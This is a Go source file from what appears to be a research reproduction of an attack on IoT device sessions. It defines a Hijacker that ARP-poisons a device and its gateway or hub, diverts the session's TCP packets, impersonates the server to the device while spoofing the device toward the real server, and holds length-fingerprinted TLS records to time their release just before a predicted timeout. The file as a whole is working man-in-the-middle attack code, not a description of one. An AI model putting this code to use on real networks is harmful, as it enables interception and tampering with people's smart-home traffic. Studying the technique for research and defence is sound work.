package core

import (
	"fmt"

	"repro/internal/ipaddr"
	"repro/internal/ipnet"
	"repro/internal/sniff"
	"repro/internal/tcpsim"
)

// Target identifies the session to hijack.
type Target struct {
	// DeviceAddr is the victim device's (or hub's) LAN address.
	DeviceAddr ipaddr.Addr
	// ServerAddr is the IoT server's address (cloud, or the local hub).
	ServerAddr ipaddr.Addr
	// ServerPort is the service port (8883 MQTT, 443 HTTPS, 8443 HAP).
	ServerPort uint16
	// GatewayAddr is the home router's LAN address (the poisoning victim
	// for the inbound direction when the server is off-link).
	GatewayAddr ipaddr.Addr
	// Model is the fingerprint label of the session-owning device, used
	// by the classifier-driven delay primitives.
	Model string
}

// Hijacker owns the man-in-the-middle position for one device↔server pair:
// ARP poisoning on both sides, a divert rule for the flow, and a split
// bridge per TCP connection (devices reconnect; each connection gets a
// fresh bridge under the same armed ops).
type Hijacker struct {
	atk        *Attacker
	target     Target
	classifier *sniff.Classifier
	bridges    []*Bridge
	installed  bool
	ops        []*DelayOp

	// OnRecord observes every classified record on every bridge, before
	// the hold decision.
	OnRecord func(*Bridge, ClassifiedRecord)

	predictor *Predictor
}

// NewHijacker prepares (but does not install) a hijack. With a nil
// classifier no record is recognised, so no op ever captures one.
func NewHijacker(atk *Attacker, target Target, classifier *sniff.Classifier) *Hijacker {
	return &Hijacker{
		atk:        atk,
		target:     target,
		classifier: classifier,
	}
}

// Target returns the hijack target.
func (h *Hijacker) Target() Target { return h.target }

// Attacker returns the owning attacker.
func (h *Hijacker) Attacker() *Attacker { return h.atk }

// Install poisons both directions and starts intercepting.
func (h *Hijacker) Install() error {
	if h.installed {
		return fmt.Errorf("core: hijacker for %s already installed", h.target.DeviceAddr)
	}
	if err := h.atk.AcceptSpoofed(h.target.ServerPort, h.target.DeviceAddr, h.accept); err != nil {
		return err
	}
	h.atk.AddDivert(h.divert)
	h.installed = true

	// Outbound: the device resolves either the server itself (local
	// deployment) or its default gateway (cloud deployment).
	outboundClaim := h.target.GatewayAddr
	if h.atk.OnLink(h.target.ServerAddr) {
		outboundClaim = h.target.ServerAddr
	}
	// Inbound: whoever delivers packets *to* the device must believe the
	// device's address is at the attacker's MAC.
	inboundVictim := h.target.GatewayAddr
	if h.atk.OnLink(h.target.ServerAddr) {
		inboundVictim = h.target.ServerAddr
	}
	h.atk.Spoofer.Poison(h.target.DeviceAddr, outboundClaim)
	h.atk.Spoofer.Poison(inboundVictim, h.target.DeviceAddr)
	return nil
}

// Uninstall withdraws from the man-in-the-middle position: the spoofed
// listener stops accepting, the divert rule turns itself off, and the ARP
// spoofer heals the victims' caches. Live bridges are left to drain; once
// the caches heal, new connections bypass the attacker entirely.
func (h *Hijacker) Uninstall() {
	if !h.installed {
		return
	}
	h.installed = false
	h.atk.StopAccepting(h.target.ServerPort, h.target.DeviceAddr)
	h.atk.Spoofer.Restore()
}

// Installed reports whether the hijack is active.
func (h *Hijacker) Installed() bool { return h.installed }

// Bridges returns every bridge created so far (oldest first).
func (h *Hijacker) Bridges() []*Bridge {
	out := make([]*Bridge, len(h.bridges))
	copy(out, h.bridges)
	return out
}

// CurrentBridge returns the most recent bridge with a live device side.
func (h *Hijacker) CurrentBridge() (*Bridge, bool) {
	for i := len(h.bridges) - 1; i >= 0; i-- {
		if closed, _ := h.bridges[i].DeviceClosed(); !closed {
			return h.bridges[i], true
		}
	}
	return nil, false
}

// Predictor returns the hijacker's timeout predictor, once armed with a
// measured profile via ArmPredictor.
func (h *Hijacker) Predictor() *Predictor { return h.predictor }

// ArmPredictor attaches a measured timeout profile so that delay
// primitives can release just before the predicted timeout.
func (h *Hijacker) ArmPredictor(m Measured) {
	h.predictor = NewPredictor(m)
}

func (h *Hijacker) divert(p ipnet.Packet) bool {
	if !h.installed || p.Proto != ipnet.ProtoTCP {
		return false
	}
	match := (p.Src == h.target.DeviceAddr && p.Dst == h.target.ServerAddr) ||
		(p.Src == h.target.ServerAddr && p.Dst == h.target.DeviceAddr)
	if !match {
		return false
	}
	h.atk.TCP.HandlePacket(p)
	return true
}

// accept runs when the device's SYN (diverted to us) completes a handshake
// with the attacker's stack impersonating the server. The attacker then
// dials the real server impersonating the device, reusing the device's own
// source port so the server observes the exact 4-tuple it expects.
func (h *Hijacker) accept(devConn *tcpsim.Conn) {
	srvConn := h.atk.TCP.DialFrom(
		devConn.Remote(), // the device's true endpoint, spoofed
		tcpsim.Endpoint{Addr: h.target.ServerAddr, Port: h.target.ServerPort},
	)
	h.bridges = append(h.bridges, newBridge(h, devConn, srvConn))
}

// hold is the one decision per record of Figure 2. It classifies r once
// and passes it to the predictor and the OnRecord observer, then reports
// whether b holds r: a holding direction holds everything behind its head,
// so that release preserves TLS order; otherwise the first armed op that
// accepts r captures it.
func (h *Hijacker) hold(b *Bridge, r RecordInfo) bool {
	cr := h.classify(r)
	if h.predictor != nil {
		h.predictor.Observe(cr)
	}
	if h.OnRecord != nil {
		h.OnRecord(b, cr)
	}
	holding, _ := b.Holding(r.Dir)
	return holding || h.capture(b, cr)
}

// classify resolves a record against the target model's signature.
func (h *Hijacker) classify(r RecordInfo) ClassifiedRecord {
	cr := ClassifiedRecord{RecordInfo: r}
	if h.classifier == nil || h.target.Model == "" {
		return cr
	}
	if m, ok := h.classifier.ClassifyLen(h.target.Model, r.Dir, r.WireLen); ok {
		cr.Msg = m
		cr.Known = true
	}
	return cr
}

// ClassifiedRecord pairs a record with its fingerprint match, if any.
type ClassifiedRecord struct {
	RecordInfo

	Msg   sniff.MsgSignature
	Known bool
}
